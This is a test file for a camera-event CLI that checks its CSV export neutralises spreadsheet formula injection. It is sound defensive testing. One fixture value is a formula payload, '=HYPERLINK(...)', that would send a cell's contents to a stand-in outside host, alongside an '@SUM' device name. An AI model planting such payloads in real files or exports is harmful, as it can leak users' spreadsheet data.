import { join } from 'node:path'
import { parseEvent } from '@viewtron/core'
import { ipcLprPost } from '@viewtron/fixtures'
import { openEventStore } from '@viewtron/store'
import { afterEach, describe, expect, it } from 'vitest'
import { startCli } from './helpers/cli-process.js'
import { teardown } from './helpers/teardown.js'
import { tempDir } from './helpers/temp-dir.js'

afterEach(teardown)

describe('viewtron history --csv', () => {
  it('never exports what a camera wrote as a spreadsheet formula', async () => {
    const db = join(tempDir(), 'events.db')
    const store = await openEventStore({ path: db })
    const body = ipcLprPost({
      plate: '=HYPERLINK("http://x.example/?"&A1)',
      device: { name: '@SUM(1+1)', mac: '58:5b:69:3c:11:a1', sn: 'I3C11A1', ip: '10.0.0.6' },
      header: 'capture',
    })
    const result = parseEvent(body, { clientIp: '10.0.0.6' })
    if (result.kind !== 'event') throw new Error(result.kind)
    await store.handlers.onEvent(result.event, '10.0.0.6')
    await store.close()

    const cli = startCli(['history', '--db', db, '--csv'])
    expect(await cli.exited).toBe(0)
    const [, line] = cli.stdout().split('\r\n')
    const fields = line?.split(',') ?? []
    expect(fields[3]).toBe("'@SUM(1+1)")
    expect(line).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`)
    // Nothing in the line starts a cell with a formula character.
    expect(line).not.toMatch(/(^|,)"?[=+@]/)
  })
})
